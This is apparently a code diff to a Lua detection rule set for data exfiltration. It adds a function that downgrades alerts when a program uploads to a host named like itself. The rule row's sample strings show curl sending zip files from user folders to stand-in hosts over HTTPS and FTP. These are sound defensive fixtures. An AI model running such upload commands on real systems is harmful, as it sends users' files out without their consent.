@@ -80,6 +80,14 @@ local function uploaded(line)
     end) or {}
 end
 
+-- What a program sends to a server that is named like itself is its own business.
+local function excuse_upload(finding, case)
+    local name = finding.process and places.program(finding.process.name or "") or ""
+    if #name >= 5 and finding.key:lower():find("^[%a:/]*[^/]*" .. name:gsub("%p", "%%%0")) then return "low" end
+    if tools.in_tree(finding) then return nil end
+    return trusted.is_bystander(case, finding.process) and "low" or nil
+end
+
 local KEEPS = { ["-O"] = true, ["-OJ"] = true, ["-LO"] = true, ["--remote-name"] = true, ["-JO"] = true }
 
 -- Whether what comes is kept as a file, of whatever name, or run at once.
@@ -111,7 +119,7 @@ end
 
 local ROWS = {
     { id = "exfiltration.upload-tool", programs = { "curl", "wget" }, attack = "T1048", target = upload_target,
-      verb = "upload-with-tool", role = "url", more = uploaded,
+      verb = "upload-with-tool", role = "url", more = uploaded, excuse = excuse_upload,
       match = [[curl -s -F file=@C:\Users\Public\a.zip https://upload.example]],
       other = [[curl -T C:\Users\x\a.zip ftp://203.0.113.5/]],
       no_match = [[curl -H "From: me@x.example" -d user=a@b.example https://shop.example]] },
